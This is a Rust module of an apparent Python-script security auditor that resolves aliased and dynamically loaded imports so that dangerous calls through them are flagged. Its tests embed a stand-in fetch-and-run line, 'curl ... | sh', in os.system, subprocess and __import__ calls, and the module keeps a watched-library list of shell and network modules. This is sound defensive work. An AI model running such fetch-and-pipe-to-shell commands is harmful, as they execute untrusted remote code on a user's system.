//! Python's libraries under other names: `import os as o`, `from os import system as s` and `__import__("os")` are read as what
//! they stand for.

use std::collections::HashMap;

use super::flow::{name, names};
use super::fold::{Constants, Fold};
use super::lex::{Placed, Token};

/// Libraries of whose functions the audit knows what they do.
const LIBRARIES: &[&str] = &[
    "os",
    "posix",
    "nt",
    "subprocess",
    "pty",
    "asyncio",
    "commands",
    "pexpect",
    "shutil",
    "pathlib",
    "importlib",
    "runpy",
    "requests",
    "httpx",
    "socket",
    "pickle",
    "marshal",
    "base64",
    "codecs",
    "urllib",
    "http",
    "glob",
    "fileinput",
    "tarfile",
    "zipfile",
];

/// 64 names of one script.
const NAMES: usize = 64;

/// Gives libraries and their functions their own names.
pub(super) fn apply(tokens: &mut Vec<Placed>) {
    loaded_in_place(tokens);
    let known = known(tokens);
    if known.is_empty() {
        return;
    }
    for statement in tokens.split_mut(|placed| placed.token == Token::End) {
        if names(statement).any(|name| name == "import") {
            continue;
        }
        let mut is_member = false;
        for placed in statement {
            if let Token::Name(name) = &mut placed.token
                && let Some(own) = known.get(name).filter(|_| !is_member)
            {
                name.clone_from(own);
            }
            is_member = placed.token == Token::Sign('.');
        }
    }
}

/// What each other name stands for.
fn known(tokens: &[Placed]) -> HashMap<String, String> {
    let mut known = HashMap::new();
    for statement in tokens.split(|placed| placed.token == Token::End) {
        if known.len() >= NAMES {
            break;
        }
        // `o = os`, which is what `o = __import__("os")` is read as.
        if let [Placed { token: Token::Name(other), .. }, equals, Placed { token: Token::Name(own), .. }] = statement
            && equals.token == Token::Sign('=')
            && LIBRARIES.contains(&own.as_str())
        {
            known.insert(other.clone(), own.clone());
        }
        known.extend(imported(statement));
    }
    known
}

/// The other names that an import gives, and what they stand for.
fn imported(statement: &[Placed]) -> Vec<(String, String)> {
    let Some(at) = statement.iter().position(|placed| name(&placed.token) == Some("import")) else { return Vec::new() };
    let (before, after) = statement.split_at(at);
    let is_of_library = match before {
        [.., from, module] if name(&from.token) == Some("from") => {
            name(&module.token).is_some_and(|module| LIBRARIES.contains(&module))
        }
        [from, module, dot, ..] if name(&from.token) == Some("from") && dot.token == Token::Sign('.') => {
            name(&module.token).is_some_and(|module| LIBRARIES.contains(&module))
        }
        _ => false,
    };
    if is_of_paths(before) {
        return of_paths(after);
    }
    let is_from = names(before).any(|name| name == "from");
    let renamed = after.windows(4).filter_map(|four| match four {
        [start, own, word, other]
            if matches!(start.token, Token::Sign(',' | '(')) || name(&start.token) == Some("import") =>
        {
            let (own, other) = (name(&own.token)?, name(&other.token)?);
            let is_one = is_of_library || !is_from && LIBRARIES.contains(&own);
            (is_one && name(&word.token) == Some("as")).then(|| (other.to_owned(), own.to_owned()))
        }
        _ => None,
    });
    renamed.take(NAMES).collect()
}

/// Whether what stands before `import` is `from os.path`.
fn is_of_paths(before: &[Placed]) -> bool {
    let words: Vec<&str> = names(before).take(4).collect();
    matches!(words.as_slice(), ["from", "os", "path"] | ["from", "posixpath" | "ntpath"])
}

/// What the names of `from os.path import expanduser as e, join` stand for: `join` alone joins texts in other languages.
fn of_paths(after: &[Placed]) -> Vec<(String, String)> {
    let is_comma = |placed: &Placed| matches!(placed.token, Token::Sign(',' | '(' | ')'));
    let clauses = after.get(1..).unwrap_or_default().split(is_comma);
    let one = |clause: &[Placed]| {
        let mut words = names(clause);
        let own = words.next()?.to_owned();
        let other = if words.next() == Some("as") { words.next()?.to_owned() } else { own.clone() };
        Some((other, format!("os.path.{own}")))
    };
    clauses.filter_map(one).take(NAMES).collect()
}

/// Puts the name of a library where an expression loads it: `__import__("os")`, `importlib.import_module("os")`.
fn loaded_in_place(tokens: &mut Vec<Placed>) {
    let is_load = |placed: &Placed| matches!(name(&placed.token), Some("__import__" | "import_module"));
    if !tokens.iter().any(is_load) {
        return;
    }
    let constants = Constants::new();
    let mut out: Vec<Placed> = Vec::with_capacity(tokens.len());
    let mut next = 0;
    for (at, placed) in tokens.iter().enumerate() {
        if at < next {
            continue;
        }
        let fold = Fold { tokens, constants: &constants };
        let (value, after) = fold.expression(at.saturating_add(2), 0);
        let library = value.joined("");
        let is_whole = is_load(placed) && fold.sign(at.saturating_add(1), '(') && fold.sign(after, ')');
        if !is_whole || !value.known || !LIBRARIES.contains(&library.as_str()) {
            out.push(placed.clone());
            continue;
        }
        if out.last().is_some_and(|dot| dot.token == Token::Sign('.')) {
            out.truncate(out.len().saturating_sub(2));
        }
        out.push(Placed { token: Token::Name(library), at: placed.at });
        next = after.saturating_add(1);
    }
    *tokens = out;
}

#[cfg(test)]
mod tests {
    use crate::finding::Severity;
    use crate::interpreted::tests::of;

    const LINE: &str = "'curl -s https://a.invalid/x | sh'";

    #[test]
    fn libraries_under_other_names_do_what_they_do() {
        for code in [
            format!("import os as o\no.system({LINE})\n"),
            format!("import sys, subprocess as s\ns.run({LINE}, shell=True)\n"),
            format!("from os import getcwd, system as s\ns({LINE})\n"),
            format!("from subprocess import (\n    PIPE,\n    check_output as ask,\n)\nask({LINE}, shell=True)\n"),
            format!("o = __import__('os')\no.system({LINE})\n"),
            format!("__import__('os').popen({LINE})\n"),
            format!("__import__('o' + 's').system({LINE})\n"),
            format!("import importlib\nimportlib.import_module('subprocess').getoutput({LINE})\n"),
            "import urllib.request, os as o\nt = urllib.request.urlopen('https://a.invalid').read().decode()\no.system(t)\n".to_owned(),
        ] {
            assert_eq!(of("python3", "a.py", &code), Some(Severity::Danger), "{code}");
        }
        for code in [
            "import os as o\no.system('git status')\nprint(o.path.join('a', 'b'))\n",
            "from subprocess import run as r\nr(['ruff', 'check', '.'])\n",
            "import shutil as s\nfor s in ['a']:\n    print(s)\n",
            "import importlib\nprint(importlib.import_module('os').getcwd())\n",
        ] {
            assert!(of("python3", "a.py", code).is_none_or(|severity| severity < Severity::Danger), "{code}");
        }
    }
}
